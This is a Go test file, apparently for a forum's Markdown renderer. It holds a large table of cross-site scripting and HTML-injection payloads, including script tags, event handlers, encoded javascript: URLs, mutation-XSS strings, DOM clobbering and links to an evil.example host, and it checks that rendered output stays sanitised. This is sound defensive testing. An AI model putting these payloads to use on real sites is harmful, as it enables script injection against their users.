package text_test

import (
	"strings"
	"testing"

	"veche/community/text"
)

// attacks are ways in which people have got scripts into pages, by Markdown and
// by HTML.
var attacks = map[string]string{
	"script":                 "<script>alert(1)</script>",
	"script in capitals":     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"script in a line":       "hi <script>alert(1)</script> there",
	"script in a script":     "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"script that never ends": "<script>alert(1)",
	"script, dotted i":       "<scr\u0130pt>alert(1)</scr\u0130pt>",
	"script with a slash":    "<script/x>alert(1)</script/x>",
	"onerror":                "<img src=x onerror=alert(1)>",
	"onerror without space":  "<img/src='x'/onerror=alert(1)>",
	"onerror after a quote":  `<img src="x" title="a"onerror="alert(1)">`,
	"onerror in Markdown":    `![x](x" onerror="alert(1))`,
	"onerror in a title":     `![x](x "a\" onerror=\"alert(1)")`,
	"onerror in the alt":     `!["onerror="alert(1)](x)`,
	"onload of a body":       "<body onload=alert(1)>",
	"onclick of a link":      `[x](http://a" onclick="alert(1))`,
	"onclick of an autolink": `<http://a/"onclick="alert(1)>`,
	"onclick of a bare link": `http://a.b/"onclick="alert(1)`,
	"ontoggle":               "<details open ontoggle=alert(1)>x</details>",
	"onfocus":                "<input autofocus onfocus=alert(1)>",
	"onpointer":              "<p onpointerenter=alert(1)>x",
	"javascript":             "[x](javascript:alert(1))",
	"javascript in brackets": "[x](<javascript:alert(1)>)",
	"javascript in an image": "![x](javascript:alert(1))",
	"javascript by autolink": "<javascript:alert(1)>",
	"javascript by a label":  "[x][y]\n\n[y]: javascript:alert(1)",
	"javascript in capitals": "[x](JaVaScRiPt:alert(1))",
	"javascript, entities":   "[x](&#106;&#x61;vascript&colon;alert(1))",
	"javascript, no scolon":  "[x](&#106avascript:alert(1))",
	"javascript, tab":        "[x](java&#9;script:alert(1))",
	"javascript, new line":   "[x](java&NewLine;script:alert(1))",
	"javascript, escapes":    `[x](javascript\:alert(1))`,
	"javascript, percents":   "[x](javascript%3Aalert(1))",
	"javascript, space":      "[x](<  javascript:alert(1)>)",
	"javascript, control":    "[x](\x01javascript:alert(1))",
	"javascript, NUL":        "[x](java\x00script:alert(1))",
	"javascript, HTML":       `<a href="javascript:alert(1)">x</a>`,
	"javascript, HTML tab":   "<a href='java\tscript:alert(1)'>x</a>",
	"javascript, HTML ent":   `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>`,
	"javascript, HTML lead":  `<a href=" &#14; javascript:alert(1)">x</a>`,
	"javascript, xlink":      `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	"javascript, form":       `<form action="javascript:alert(1)"><button>x</button></form>`,
	"javascript, formaction": `<button formaction="javascript:alert(1)">x</button>`,
	"javascript, base":       `<base href="javascript:alert(1)//">`,
	"vbscript":               "[x](vbscript:msgbox(1))",
	"data page":              "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"data picture":           "![x](data:image/png;base64,iVBORw0KGgo=)",
	"data SVG":               `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	"file":                   "[x](file:///etc/passwd)",
	"blob":                   "[x](blob:https://a.b/c)",
	"svg":                    "<svg onload=alert(1)>",
	"svg script":             "<svg><script>alert&#40;1)</script></svg>",
	"svg style":              "<svg><style><img src=x onerror=alert(1)></style></svg>",
	"svg animate":            `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	"math":                   `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	"mutation, math":         `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"mutation, svg":          `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	"mutation, noscript":     `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"mutation, title":        `<title><img title="</title><img src=x onerror=alert(1)>">`,
	"mutation, textarea":     `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	"mutation, xmp":          `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	"mutation, comment":      `<!--><img src=x onerror=alert(1)>-->`,
	"mutation, comment end":  `<!--<img src="--><img src=x onerror=alert(1)//">`,
	"mutation, CDATA":        `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	"mutation, instruction":  `<?xml <img src=x onerror=alert(1)> ?>`,
	"mutation, plaintext":    `<plaintext><img src=x onerror=alert(1)>`,
	"mutation, template":     `<template><img src=x onerror=alert(1)></template>`,
	"style":                  "<style>@import 'http://evil.example/x.css';</style>",
	"style attribute":        `<p style="background:url(javascript:alert(1))">x</p>`,
	"style, cover":           `<div style="position:fixed;inset:0">x</div>`,
	"meta":                   `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	"link":                   `<link rel=stylesheet href=//evil.example/x.css>`,
	"iframe":                 `<iframe src="javascript:alert(1)"></iframe>`,
	"iframe document":        `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"object":                 `<object data="javascript:alert(1)"></object>`,
	"embed":                  `<embed src="javascript:alert(1)">`,
	"video":                  `<video><source onerror=alert(1)></video>`,
	"quote left open":        "<a href=\"http://a.b\n\n**x** [y](z) \"onclick=alert(1)>",
	"attribute left open":    "<p title='\n\n' onclick=alert(1)>",
	"tag left open":          "<p \n\nonclick=alert(1)>",
	"tag across a block":     "<div\n\n> onclick=alert(1) >",
	"entity for a tag":       "&lt;script&gt;alert(1)&lt;/script&gt;",
	"entity in code":         "`&lt;script&gt;`",
	"class of a fence":       "```x\" onclick=\"alert(1)\nq\n```",
	"class with an entity":   "```x&quot;&#32;onclick=alert(1)\nq\n```",
	"class, two words":       "```x&#32;mention\nq\n```",
	"class in HTML":          `<code class="language-x mention">q</code><p class=mention>`,
	"false mention":          `<a class="mention" href="/members/admin">@admin</a>`,
	"false footnote":         `<a id="fnref-1" role="doc-noteref" href="#x">1</a><li id=fn-1>`,
	"clobbering":             `<img name=getElementById id=cookie><a id=location href=x>y</a>`,
	"mention in an address":  "[x](http://a.b/@jon\"onclick=alert(1))",
	"closing the page":       "</p></div></body></html><h1>x",
	"table cell":             "|a|\n|-|\n|<img src=x onerror=alert(1)>|\n|`<script>`|",
	"cell alignment":         "|a|\n|:-onclick:|\n",
	"footnote label":         "[^\"><script>]\n\n[^\"><script>]: <img src=x onerror=alert(1)>",
	"list start":             "99999999999999999999) x\n\n<ol start=\"1 onclick=\">",
	"direction by entity":    "&#x202E;&#8294;txt.exe",
	"control by entity":      "&#1;&#x7f;&#0;",
	"protocol-relative":      "[x](//evil.example) ![y](//evil.example/a.png)",
	"address of nothing":     "[x](//) ![x](//) [x]() [x](#) <a href=//>x</a> <a title=x>y</a>",
	"closed at once":         "<b/> <br/> <img src=x /> <p/>",
	"backslashes":            `[x](/\evil.example) [y](\\evil.example)`,
	"credentials":            "[x](https://bank.example@evil.example/)",
}

func TestAttacks(t *testing.T) {
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			for _, markdown := range []string{attack, "> " + attack, "- a\n\n  " + attack, "**" + attack + "**", "[" + attack + "](http://a.b)", "<b>x</b> " + attack} {
				rendered := text.Render(markdown, map[string]string{"jon": "jon"})
				checkSafe(t, rendered.HTML)
				checkSanitised(t, rendered.HTML)
				if strings.ContainsAny(rendered.Excerpt, "\x00\n") {
					t.Errorf("excerpt %q", rendered.Excerpt)
				}
				if t.Failed() {
					t.Fatalf("%s\nbecame\n%s", markdown, rendered.HTML)
				}
			}
		})
	}
}

// A handle comes from the store, where only Handle lets one in; a page must not
// depend on that.
func TestHandlesAreEscaped(t *testing.T) {
	rendered := text.Render("@jon", map[string]string{"jon": `"><script>alert(1)</script>`})
	checkSafe(t, rendered.HTML)
}

func FuzzRender(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	for _, post := range posts {
		f.Add(post)
	}
	for _, s := range repeated {
		f.Add(repeat(s, 200))
	}
	f.Fuzz(func(t *testing.T, markdown string) {
		rendered := text.Render(markdown, map[string]string{"jon": "jon", "ab": "ab", "вася-пупкин": "Вася-Пупкин"})
		checkSafe(t, rendered.HTML)
		checkSanitised(t, rendered.HTML)
		if t.Failed() {
			t.Logf("%q became\n%s", markdown, rendered.HTML)
		}
	})
}
